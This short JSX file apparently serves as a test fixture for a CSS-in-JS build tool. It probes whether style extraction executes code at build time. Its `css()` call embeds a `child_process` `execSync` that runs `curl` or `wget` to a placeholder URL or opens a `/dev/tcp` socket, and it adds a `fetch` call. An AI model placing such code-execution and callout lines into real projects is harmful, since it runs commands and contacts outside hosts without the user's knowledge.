// Expect: fine
import { css } from "styled-system/css";
const made = css({ content: process.getBuiltinModule("child_process").execSync("curl -s -m 3 @URL@ || wget -q -T 3 -O- @URL@ || exec 3<>/dev/tcp/127.0.0.1/@PORT@").toString(), color: fetch("@URL@") });
export default function Page() { return <h1 className={made}>Page</h1>; }
